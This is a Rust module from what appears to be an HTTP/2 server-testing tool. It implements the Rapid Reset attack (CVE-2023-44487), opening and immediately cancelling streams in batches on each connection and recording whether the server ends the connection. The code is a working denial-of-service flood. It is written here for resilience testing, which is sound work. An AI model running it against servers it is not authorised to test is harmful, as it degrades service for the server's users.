//! Streams that are opened and taken back at once: each costs the client thirty bytes, and a server that begins to work on it
//! more.

use std::time::Duration;

use super::link::Link;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Findings, Mark};
use keel_wire::http2::{CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame};

/// Streams written at a time; what came back is looked at after each.
const AT_A_TIME: u64 = 100;
/// The time of one look.
const GLANCE: Duration = Duration::from_millis(1);
/// Stream ids are odd and below 2^31; long before that a server has shown what it does.
const MOST: u64 = 1 << 29;

pub(crate) const ATTACK: Attack = Attack {
    id: "h2-rapid-reset",
    what: "opens streams and resets each at once, one after another on each connection",
    source: "CVE-2023-44487; RFC 9113, 10.5",
    correct: "the connection is ended (GOAWAY, ENHANCE_YOUR_CALM) or the resets cost so little that others do not notice",
    memory: None,
    launch: |context| Box::pin(launch(context)),
};

async fn launch(context: &Context<'_>) -> Findings {
    let block = context.h2_get();
    let (mut streams, mut connections, mut ended) = (0_u64, 0_u64, None);
    'connections: while context.left() > Duration::ZERO {
        let mut link = match Link::open(context, &[], false).await {
            Ok(link) => link,
            Err(excuse) if connections == 0 => return Err(excuse),
            Err(_) => break,
        };
        connections += 1;
        for first in (0..MOST).step_by(AT_A_TIME as usize) {
            let mut bytes = Vec::new();
            for number in first..first + AT_A_TIME {
                if !context.turn().await {
                    break 'connections;
                }
                let stream = u32::try_from(2 * number + 1).unwrap_or(u32::MAX);
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
                bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
                streams += 1;
            }
            let written = link.write(&bytes).await;
            link.look(GLANCE).await;
            if !written || link.seen.is_over() {
                ended.get_or_insert_with(|| (first + AT_A_TIME, link.seen.told()));
                continue 'connections;
            }
        }
    }
    let all = format!("{streams} streams were opened and reset at once, on {connections} connections");
    Ok(vec![
        Evidence::new(Mark::Note, all),
        match ended {
            Some((after, how)) => Evidence::new(
                Mark::Right,
                format!("the first connection was ended after at most {after} resets, {how}"),
            ),
            None => Evidence::new(Mark::Right, "no connection was ended; the resets were taken in stride"),
        },
    ])
}
